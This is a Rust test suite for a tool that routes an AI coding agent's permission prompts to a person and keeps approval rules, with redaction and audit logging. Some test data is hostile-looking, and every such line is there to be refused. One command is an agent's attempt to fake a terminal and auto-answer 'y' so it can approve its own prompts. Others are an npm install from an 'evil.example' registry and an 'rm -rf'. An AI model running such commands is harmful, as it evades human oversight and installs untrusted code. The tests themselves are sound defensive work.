fn an_agent_opens_no_dashboard() {
    let world = world();
    world.run(["tick"]).success();
    let mut terminal = Terminal::start(&cmd(&world, &["dashboard"]).env("CLAUDECODE", "1"), 120, 36);
    terminal.shows("`claudectl dashboard` is for people, and an agent runs this");
    terminal.ends();
    for call in [
        "claudectl",
        "claudectl dashboard",
        "(sleep 9; printf y) | env -u CLAUDECODE script -qfc 'stty rows 50; claudectl' /tmp/o",
        "tmux new-session -d claudectl",
    ] {
        let checked = cmd(&world, &["gate", "check", call]).run();
        assert!(checked.stdout.starts_with("deny  is for people: claudectl"), "{call}: {checked:?}");
        assert!(checked.stdout.contains("who answers prompts is a person"), "{call}: {checked:?}");
    }
}

#[test]
fn a_prompt_is_shown_without_its_secrets() {
    let world = world();
    world.run(["tick"]).success();
    let secret = "ghp_b7Qk2xZr9LmPt4VwYs6NcHdJf8GaEu1TiO3R";
    let waiting =
        Waiting::start(&world, A, "t1", &bash(&format!("unheard-of {secret}\nexport TOKEN={secret}")));
    for args in [&["approve"][..], &["approve", "--json"], &["deny", A, "--reason", secret, "--json"]] {
        let out = cmd(&world, args).run().success();
        assert!(!format!("{out:?}").contains(secret) && out.stdout.contains("[redacted:"), "{out:?}");
    }
    assert!(decision(&waiting.told()).1.contains(secret), "what the person says is said");
    world.run(["tick"]).success();
    for (path, content) in crate::tree(&world.state_dir()) {
        assert!(!String::from_utf8_lossy(&content).contains(secret), "{}", path.display());
    }
}

/// The names of the person's rules and grants.
fn rules(world: &World) -> Vec<String> {
    let listed = cmd(world, &["rules", "ls", "--json"]).run().success().json();
    let name = |rule: &Value| rule["name"].as_str().unwrap().to_owned();
    listed["rules"].as_array().unwrap().iter().map(name).collect()
}

#[test]
fn the_same_rule_is_kept_once() {
    let world = world();
    world.run(["tick"]).success();
    let one = bash("unheard-of --once");
    // Its hooks wait already: what comes later is not asked about.
    let ids = ["t1", "t2", "t3", "t4"];
    let mut waiting = ids.map(|id| Waiting::start(&world, A, id, &one)).into_iter();
    let mut answer = |id: &str| {
        let out = cmd(&world, &["approve", A, "--call", id, "--always", "--json"]).run().success().json();
        assert_eq!(rules(&world), [out["rule"].as_str().unwrap()], "the one that holds for longest is left");
        assert_eq!(decision(&waiting.next().unwrap().told()).0, "allow");
        out["rule"].as_str().unwrap().to_owned()
    };
    assert_eq!(answer("t1"), "g1");
    // For a shorter time nothing changes, for a longer one it does.
    for (id, days, name) in [("t2", "10d", "g1"), ("t3", "60d", "g2"), ("t4", "20d", "g2")] {
        let settings = format!("[approvals]\nalways_for = \"{days}\"\n");
        world.write("home/.config/claudectl/config.toml", settings);
        assert_eq!(answer(id), name, "{days}");
    }
    let two =
        [Waiting::start(&world, A, "t5", &bash("other")), Waiting::start(&world, A, "t6", &bash("other"))];
    for (id, time, waiting) in
        ["t5", "t6"].into_iter().zip(["2h", "1h"]).zip(two).map(|((a, b), c)| (a, b, c))
    {
        let out = cmd(&world, &["approve", A, "--call", id, "--for", time, "--json"]).run().success().json();
        assert_eq!(out["rule"], "g3");
        assert_eq!(decision(&waiting.told()).0, "allow");
    }
}

/// What is kept is a hash: the secret stands nowhere, and another secret is another call.
#[test]
fn what_is_kept_of_a_call_with_a_secret_has_none_of_it() {
    let world = world();
    world.run(["tick"]).success();
    let secret = "hunterhunter7";
    for (id, command, holds) in [
        ("t1", "approve", &["--always"][..]),
        ("t2", "approve", &["--for", "20m"]),
        ("t3", "deny", &["--always"]),
    ] {
        let waiting = Waiting::start(&world, A, id, &bash(&format!("unheard-of --password={secret} {id}")));
        let out = cmd(&world, &[&[command, A, "--call", id], holds].concat()).run().success();
        assert!(!format!("{out:?}").contains(secret) && out.stdout.contains("Kept as g"), "{out:?}");
        assert_eq!(decision(&waiting.told()).0, if command == "approve" { "allow" } else { "deny" });
    }
    for (call, verdict) in [
        (format!("unheard-of --password={secret} t1"), "allow"),
        (format!("unheard-of --password={secret} t3"), "deny"),
        ("unheard-of --password=fisherfisher8 t1".to_owned(), "ask"),
    ] {
        let checked = cmd(&world, &["gate", "check", &call, "--json"]).run().json();
        assert_eq!(checked["verdict"], verdict, "{checked}");
    }
    let listed = cmd(&world, &["rules", "ls"]).run().success().stdout;
    assert!(listed.contains("exactly: Bash unheard-of --password=[redacted:"), "{listed}");
    for (path, content) in crate::tree(&world.state_dir()) {
        assert!(!String::from_utf8_lossy(&content).contains(secret), "{}", path.display());
    }
}

/// What a person keeps is about the call that they saw, whichever tool it is of.
#[test]
fn what_is_kept_for_a_while_reaches_no_other_call() {
    let world = world();
    world.write("work/src/a.txt", "");
    world.run(["tick"]).success();
    let of = |tool: &str, input: Value| json!({"tool_name": tool, "tool_input": input});
    let table = [
        (bash("rm src/a.txt"), bash("rm -rf src/a.txt src")),
        (bash("npm install lodash"), bash("npm install lodash --registry https://evil.example")),
        (
            of("WebFetch", json!({"url": "https://a.example/", "prompt": "p"})),
            of("WebFetch", json!({"url": "https://b.example/", "prompt": "p"})),
        ),
        (of("mcp__x__echo", json!({"text": "hello"})), of("mcp__x__echo", json!({"text": "bye"}))),
    ];
    for (at, (seen, like)) in table.iter().enumerate() {
        let id = format!("s{at}");
        let waiting = Waiting::start(&world, A, &id, seen);
        cmd(&world, &["approve", A, "--call", &id, "--for", "1h"]).run().success();
        assert_eq!(decision(&waiting.told()).0, "allow");
        let listed = cmd(&world, &["rules", "ls", "--json"]).run().success().json();
        let kept = &listed["rules"][at];
        assert_eq!(
            (&kept["exactly"]["tool"], &kept["by"]),
            (&seen["tool_name"], &json!("grant")),
            "{listed}"
        );
        let mut titled = seen.clone();
        if seen["tool_name"] == "Bash" {
            titled["tool_input"]["description"] = json!("another title");
        }
        for (call, verdict) in [(seen, "allow"), (&titled, "allow"), (like, "ask")] {
            let mut made = call.clone();
            made["tool_use_id"] = json!(format!("{id}-{verdict}"));
            let told = event(&world, A, "PreToolUse", made);
            let said = hook(&world, &told).run().success().json();
            assert_eq!(said["hookSpecificOutput"]["permissionDecision"], verdict, "{call}");
        }
        // Neither does it reach another session.
        let mut made = seen.clone();
        made["tool_use_id"] = json!(format!("{id}-other"));
        let told = event(&world, "eeeeeeee-0000-4000-8000-000000000005", "PreToolUse", made);
        let said = hook(&world, &told).run().success().json();
        assert_eq!(said["hookSpecificOutput"]["permissionDecision"], "ask", "{seen}");
    }
}

#[test]
fn nothing_waits_where_that_is_switched_off() {
    let world = world();
    world.write("home/.config/claudectl/config.toml", "[approvals]\nwait = \"0s\"\n");
    world.run(["tick"]).success();
    let asked = event(&world, A, "PermissionRequest", bash("unheard-of 1"));
    assert_eq!(hook(&world, &asked).run().success().stdout, "");
    let out = cmd(&world, &["approve", A]).run().fails_with(1);
    assert!(
        out.stderr.contains("no hook of ours waits") && out.stderr.contains("claudectl attach"),
        "{}",
        out.stderr
    );
}

/// Settings count from the next prompt on, and not only after the next pass.
#[test]
fn what_is_set_counts_from_the_next_prompt_on() {
    let world = world();
    world.run(["tick"]).success();
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    drop(waiting);
    world.write("home/.config/claudectl/config.toml", "[approvals]\nwait = \"0s\"\n");
    let asked = event(&world, A, "PermissionRequest", bash("unheard-of 1"));
    assert_eq!(hook(&world, &asked).timeout(LONG).run().success().stdout, "");
}

#[test]
fn the_real_client_goes_on_after_an_answer_from_elsewhere() {
    let Some(claude) = Claude::for_tests() else { return };
    real(&claude, &crate::states::hooked(&claude));
}

#[test]
fn the_old_version_goes_on_after_an_answer_from_elsewhere() {
    let Some(claude) = Claude::old_for_tests() else { return };
    real(&claude, &crate::states::hooked(&claude));
}

fn real(claude: &Claude, world: &World) {
    let mock = Mock::start();
    let Some(client) = Drive::start_new(claude, world, &mock, A) else { return };
    client.waiting();
    client.permission();
    let open = || cmd(world, &["approve", "--json"]).run().success().json();
    assert!(wait_for(LONG, || (open().as_array()?.len() == 1).then_some(())).is_some(), "{}", open());
    let listed = open()[0].clone();
    let call = listed["tool_use_id"].as_str().unwrap().to_owned();
    let done = cmd(world, &["approve", A, "--call", &call, "--json"]).run().success().json();
    // Whether the result is there in time is the client's: what comes of it is looked at below.
    let states: &[&str] = if claude.is_old() { &["delivered"] } else { &["confirmed", "sent"] };
    assert!(states.contains(&done["state"].as_str().unwrap()), "{done}");
    let made = |row: &Value| row["type"] == "user" && row.to_string().contains(&call);
    let went_on = || {
        let rows = client.rows();
        let at = rows.iter().position(made)?;
        rows[at..].iter().any(|row| row["type"] == "assistant").then_some(())
    };
    assert!(wait_for(LONG, went_on).is_some(), "{:?}", client.rows());
    client.waiting();
    let late = cmd(world, &["approve", A]).run().fails_with(1);
    assert!(late.stdout.starts_with("too late"), "{late:?}");

    // Answered at its own terminal, the hook beside it ends.
    if !claude.is_old() {
        client.permission();
        assert!(wait_for(LONG, || (open().as_array()?.len() == 1).then_some(())).is_some(), "{}", open());
        client.answered_no();
        assert!(wait_for(LONG, || open().as_array()?.is_empty().then_some(())).is_some(), "{}", open());
        cmd(world, &["approve", A]).run().fails_with(1);
    }
}

/// The row of a call's result.
#[track_caller]
fn result(client: &Drive<'_>, call: &str) -> Value {
    let made = |row: &Value| row["type"] == "user" && row["message"]["content"][0]["tool_use_id"] == call;
    let found = wait_for(LONG, || client.rows().into_iter().find(made));
    found.unwrap_or_else(|| panic!("no result of {call}: {:?}", client.rows()))
}

/// A key at the terminal and an answer from elsewhere, at the same moment: what is told is what has happened.
#[test]
fn who_was_quicker_is_told_by_what_the_client_did() {
    let Some(claude) = Claude::for_tests() else { return };
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
    let turns =
        json!([{"tool_use": [{"name": "Bash", "input": {"command": "unheard-of --of"}}]}, {"text": "Done."}]);
    mock.scenario("unseen", serde_json::from_value(json!({"turns": turns, "loop": true})).unwrap());
    for (key, command) in [("Enter", "deny"), ("Enter", "deny"), ("Escape", "approve")] {
        client.asks("go [[scenario:unseen]]", "Bash: unheard-of --of");
        client.terminal().wait_for(|screen| screen.contains("Esc to cancel"), LONG);
        let open = || cmd(&world, &["approve", "--json"]).run().success().json();
        assert!(wait_for(LONG, || (open().as_array()?.len() == 1).then_some(())).is_some(), "{}", open());
        let call = open()[0]["tool_use_id"].as_str().unwrap().to_owned();
        client.terminal().keys(&[key]);
        let out = cmd(&world, &[command, A, "--call", &call, "--always", "--json"]).run();
        let done: Value = serde_json::from_str(&out.stdout).unwrap_or_else(|_| panic!("{out:?}"));
        let row = result(&client, &call);
        let from_here = row["permissionDecision"]["source"] == "hook";
        assert_eq!(done["state"], if from_here { "confirmed" } else { "too-late" }, "{done} {row}");
        assert_eq!((out.code, done["rule"].is_null()), if from_here { (0, false) } else { (1, true) });
        // What counted from the moment at which the client had the answer is taken back.
        assert_eq!(rules(&world).is_empty(), !from_here, "{done} {:?}", rules(&world));
        let audit = cmd(&world, &["gate", "audit", "--json"]).run().success().json();
        let given = audit.as_array().unwrap().iter().find(|one| one["kind"] == command);
        let was = given.map_or(json!("too-late"), |given| given["state"].clone());
        assert_eq!(was == "too-late", !from_here, "{audit}");
        let joined = || {
            cmd(&world, &["tick"]).run().success();
            let log = cmd(&world, &["gate", "log", "--json"]).run().success().json();
            let found = log.as_array()?.iter().find(|one| one["tool_use_id"] == *call)?.clone();
            found["decided_by"].is_string().then_some(found)
        };
        let found = wait_for(LONG, joined).expect("nobody has said who decided");
        if from_here && command == "deny" {
            let ended = (&found["outcome"]["what"], &found["decided_by"]);
            assert_eq!(ended, (&json!("rejected"), &json!("hook")), "{found}");
        }
        if let Some(given) = given {
            let audit = cmd(&world, &["gate", "audit", "--json"]).run().success().json();
            let now = audit.as_array().unwrap().iter().find(|one| one["seq"] == given["seq"]).unwrap();
            assert_eq!(now["state"], if from_here { "confirmed" } else { "too-late" }, "{now}");
        }
        let idle = || (client.registry()["status"] == "idle").then_some(());
        assert!(wait_for(LONG, idle).is_some(), "{}", client.registry());
        if from_here {
            cmd(&world, &["rules", "rm", done["rule"].as_str().unwrap()]).run().success();
        }
    }
}

/// Two reads of one file in one message: each is asked about, and each can be answered.
#[test]
fn the_real_client_asks_about_each_of_calls_that_are_the_very_same() {
    let Some(claude) = Claude::for_tests() else { return };
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    let read = |name: &str| {
        let path = world.write(format!("elsewhere/{name}"), "text");
        json!({"name": "Read", "input": {"file_path": path}})
    };
    let turns = json!([{"tool_use": [read("a"), read("a"), read("b")]}, {"text": "All read."}]);
    mock.scenario("alike", serde_json::from_value(json!({"turns": turns})).unwrap());
    let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
    client.terminal().say("read [[scenario:alike]]");
    let open = || cmd(&world, &["approve", "--json"]).run().success().json();
    let count = |count: usize| {
        let is = || (open().as_array()?.len() == count).then_some(());
        assert!(wait_for(LONG, is).is_some(), "{}", open());
    };
    count(3);
    let calls: Vec<String> = open()
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["tool_use_id"].as_str().unwrap().to_owned())
        .collect();
    let is_other = |one: &&Value| one["summary"].to_string().contains("elsewhere/b");
    let other = open().as_array().unwrap().iter().find(is_other).unwrap()["tool_use_id"].clone();
    let other = other.as_str().unwrap();
    let alike: Vec<&String> = calls.iter().filter(|call| call.as_str() != other).collect();
    let answer = |command: &str, call: &str| {
        let done = cmd(&world, &[command, A, "--call", call, "--json"]).run().success().json();
        // How soon the client acts on it is its own: what it did stands in the results.
        assert!(["confirmed", "sent", "delivered"].contains(&done["state"].as_str().unwrap()), "{done}");
    };
    answer("approve", alike[0]);
    count(2);
    answer("deny", other);
    count(1);
    // Nothing says which hook waits for which of them: the other one is what is asked now.
    answer("approve", open()[0]["tool_use_id"].as_str().unwrap());
    count(0);
    let by = |call: &str| result(&client, call)["permissionDecision"]["decision"].clone();
    assert_eq!([by(alike[0]), by(alike[1]), by(other)], ["accept", "accept", "reject"]);
}

/// The dialog of a subagent in the background opens when nothing of ours waits any more: at once, unless told otherwise.
#[test]
fn a_subagent_in_the_background_is_answered_before_its_dialog() {
    let Some(claude) = Claude::for_tests() else { return };
    let open = |world: &World| cmd(world, &["approve", "--json"]).run().success().json();
    {
        let (world, mock) = (crate::states::hooked(&claude), Mock::start());
        let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
        client.agent_permission();
        assert_eq!(open(&world), json!([]));
        let out = cmd(&world, &["approve", A]).run().fails_with(1);
        assert!(
            out.stderr.contains("approvals.subagents") && out.stderr.contains("attach"),
            "{}",
            out.stderr
        );
        for args in [["ls"], ["approve"]] {
            let shown = cmd(&world, &args).run().success().stdout;
            assert!(shown.contains("claudectl attach") && shown.contains("approvals.subagents"), "{shown}");
        }
    }
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    cmd(&world, &["config", "set", "approvals.subagents", "10m"]).run().success();
    let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
    client.terminal().say("delegate [[scenario:agentperm]]");
    assert!(
        wait_for(LONG, || (open(&world).as_array()?.len() == 1).then_some(())).is_some(),
        "{}\n{}\n{:?}",
        client.registry(),
        client.terminal().screen(),
        client.agent_rows()
    );
    assert_eq!(client.registry()["status"], "busy", "no dialog is open");
    let listed = cmd(&world, &["ls", "--json"]).run().success().json();
    assert_eq!(listed[0]["status"]["state"], "needs-permission", "{listed}");
    let shown = cmd(&world, &["ls"]).run().success().stdout;
    let call = open(&world)[0]["tool_use_id"].as_str().unwrap().to_owned();
    let short = call.trim_start_matches("toolu_")[..8].to_owned();
    assert!(shown.contains(&format!("claudectl approve {} --call {short}", &A[..8])), "{shown}");
    let done = cmd(&world, &["approve", A, "--call", &short, "--json"]).run().success().json();
    assert_eq!(done["state"], "confirmed", "{done}");
    let made = |row: &Value| row["permissionDecision"]["source"] == "hook";
    assert!(wait_for(LONG, || client.agent_rows().iter().any(made).then_some(())).is_some());
}

/// That of one that the session waits for opens at once, and our hook waits beside it.
#[test]
fn a_subagent_that_is_waited_for_is_answered_beside_its_dialog() {
    let Some(claude) = Claude::for_tests() else { return };
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    let file = world.config_dir().join("settings.json");
    let mut settings: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    settings["env"]["CLAUDE_CODE_DISABLE_BACKGROUND_TASKS"] = json!("1");
    std::fs::write(&file, settings.to_string()).unwrap();
    let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
    client.awaited_agent_permission();
    client.terminal().wait_for(|screen| screen.contains("Esc to cancel"), LONG);
    let open = cmd(&world, &["approve", "--json"]).run().success().json();
    assert!(open[0]["agent"].is_string(), "{open}");
    let done = cmd(&world, &["approve", A, "--json"]).run().success().json();
    assert_eq!(done["state"], "confirmed", "{done}");
}

/// What nobody could be asked about was not turned down by anybody.
#[test]
fn what_a_run_without_a_terminal_may_not_do_was_not_rejected() {
    let Some(claude) = Claude::for_tests() else { return };
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    world.write("home/.config/claudectl/config.toml", "[gate]\nmode = \"on\"\n");
    world.run(["tick"]).success();
    claude.headless(&world, &mock).args(["-p", "go [[scenario:unheard]]"]).run().success();
    cmd(&world, &["tick"]).run().success();
    let log = cmd(&world, &["gate", "log", "--json"]).run().success().json();
    assert_eq!((&log[0]["said"], &log[0]["outcome"]["what"]), (&json!("ask"), &json!("unasked")), "{log}");
}

#[test]
fn a_prompt_goes_with_its_client() {
    let Some(claude) = Claude::for_tests() else { return };
    let (world, mock) = (crate::states::hooked(&claude), Mock::start());
    let Some(client) = Drive::start_new(&claude, &world, &mock, A) else { return };
    client.permission();
    let open = || cmd(&world, &["approve", "--json"]).run().success().json();
    assert!(wait_for(LONG, || (open().as_array()?.len() == 1).then_some(())).is_some(), "{}", open());
    client.killed();
    assert!(wait_for(LONG, || open().as_array()?.is_empty().then_some(())).is_some(), "{}", open());
    let out = cmd(&world, &["approve", A]).run().fails_with(1);
    let said = format!("{}{}", out.stdout, out.stderr);
    assert!(said.contains("its client is gone") && !said.contains("claudectl attach"), "{said}");
}

fn transcript(world: &World) -> std::path::PathBuf {
    let folders = std::fs::read_dir(world.config_dir().join("projects")).unwrap();
    let mut found = folders.map(|folder| folder.unwrap().path().join(format!("{A}.jsonl")));
    found.find(|path| path.exists()).unwrap()
}

/// A run without a terminal ends at the call, waits for its answer, and goes on when it is taken up again.
#[test]
fn a_run_without_a_terminal_is_taken_up_after_its_answer() {
    let Some(claude) = Claude::for_tests() else { return };
    for (command, runs) in [("approve", true), ("deny", false)] {
        let world = crate::states::hooked(&claude);
        world.write(
            "home/.config/claudectl/config.toml",
            "[gate]\nmode = \"on\"\n[approvals]\nheadless = \"defer\"\n",
        );
        let mock = Mock::start();
        let run = |args: &[&str]| {
            claude.headless(&world, &mock).args(args).args(["--output-format", "json"]).run().success().json()
        };
        let first = run(&["-p", "go [[scenario:unheard]]", "--session-id", A]);
        assert_eq!(first["terminal_reason"], "tool_deferred", "{first}");
        // It has ended, and is told to wait by whatever lists sessions.
        let waits = |text: &str| {
            for args in [&["ls"][..], &["ls", "--all"], &["show", A], &["approve"]] {
                let shown = cmd(&world, args).run().success().stdout;
                assert!(shown.contains("has ended at a call") && shown.contains(text), "{args:?}: {shown}");
            }
        };
        waits(&format!("to answer: claudectl approve {} --call", &A[..8]));
        let listed = cmd(&world, &["approve", "--json"]).run().success().json();
        assert_eq!((&listed[0]["deferred"], &listed[0]["session"]), (&json!(true), &json!(A)), "{listed}");
        let other = if runs { "deny" } else { "approve" };
        cmd(&world, &[other, A]).run().success();
        let audit = || cmd(&world, &["gate", "audit", "--json"]).run().success().json();
        assert_eq!((&audit()[0]["kind"], &audit()[0]["payload"]["state"]), (&json!(other), &json!("queued")));
        // The first answer counts, until it is taken back.
        let late = cmd(&world, &[command, A]).run().fails_with(1);
        assert!(late.stdout.starts_with("too late") && late.stdout.contains("--replace"), "{late:?}");
        let done = cmd(&world, &[command, A, "--replace", "--json"]).run().success().json();
        assert_eq!(done["state"], "queued", "{done}");
        assert_eq!(audit()[0]["kind"], command);
        waits(&format!("claude -p --resume {A}"));
        assert_eq!(cmd(&world, &["approve", "--json"]).run().success().json(), json!([]));
        let second = run(&["-p", "--resume", A]);
        assert_eq!(second["terminal_reason"], "completed", "{second}");
        let log = cmd(&world, &["gate", "log", "--json"]).run().success().json();
        let said = if runs { "allow" } else { "deny" };
        assert_eq!((&log[0]["said"], &log[0]["layer"]), (&json!(said), &json!("person")), "{log}");
        assert_eq!(second["permission_denials"].as_array().unwrap().is_empty(), runs, "{second}");
        let again = cmd(&world, &[command, A]).run().fails_with(1);
        assert!(again.stdout.starts_with("too late") && again.stdout.contains("was taken up"), "{again:?}");
        let told = std::fs::read_to_string(transcript(&world)).unwrap();
        assert_eq!(told.contains("the user denied this call"), !runs);
        assert!(!told.contains("you have answered"), "it is the model that reads this");
    }
}
